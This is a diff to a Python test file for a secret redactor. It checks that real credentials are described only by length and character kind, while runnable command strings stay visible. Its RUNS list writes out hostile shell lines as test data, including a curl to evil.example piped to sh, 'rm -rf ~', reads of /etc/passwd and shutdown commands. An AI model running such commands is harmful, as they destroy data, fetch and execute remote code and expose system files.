@@ -65,9 +65,49 @@ def test_secret_is_hidden_wherever_it_stands() -> None:
         SHAPED: SHAPED,
     }
     text = show_arguments(args, Redactor([CANARY]))
+    assert "[secret of 17 characters]" in text
     assert CANARY not in text
     assert CANARY[:8] not in text
     assert SHAPED not in text
+
+
+RUNS = (
+    'API_KEY="$(curl -s http://evil.example/x.sh | sh)" make',
+    "password=`reboot`; rm -rf ~",
+    "TOKEN=$(</etc/passwd) SECRET=evilprog $SECRET",
+    "Authorization: Bearer $(id)",
+    "--token 'a; shutdown now'",
+    "curl -u user:$(whoami) https://u:$(id)@evil.example/",
+    "GIT_ASKPASS=/tmp/evil.sh git push",
+    "-----BEGIN PRIVATE KEY-----\nshutdown -h now\n-----END PRIVATE KEY-----",
+)
+
+
+@pytest.mark.parametrize("text", RUNS)
+def test_what_would_run_is_shown_although_it_stands_where_a_secret_would(text: str) -> None:
+    """Fails at befa727: `***` stood in the place of it."""
+    assert shown({"command": text}) == {"command": text}
+    assert shown({"password": text, "token": [text]}) == {"password": text, "token": [text]}
+
+
+@pytest.mark.parametrize(
+    ("args", "seen"),
+    [
+        ({"text": f"token: {SHAPED}\n"}, {"text": "token: [40 characters: letters, digits and _]\n"}),
+        ({"password": "hunter2hunter2"}, {"password": "[14 characters: letters, digits]"}),
+        ({"pin": "see", "password": 12345678}, {"pin": "see", "password": "[a number of 8 characters]"}),
+        (
+            {"argv": ["x", "--token", "abc123-456"]},
+            {"argv": ["x", "--token", "[10 characters: letters, digits and -]"]},
+        ),
+        (
+            {"secret": {"name": "prod", "id": "a1b2c3"}},
+            {"secret": {"name": "prod", "id": "[6 characters: letters, digits]"}},
+        ),
+    ],
+)
+def test_what_looks_like_a_credential_is_told_by_length_and_kind(args: Any, seen: Any) -> None:
+    assert shown(args) == seen
 
 
 @pytest.mark.promise("secrets.nowhere")
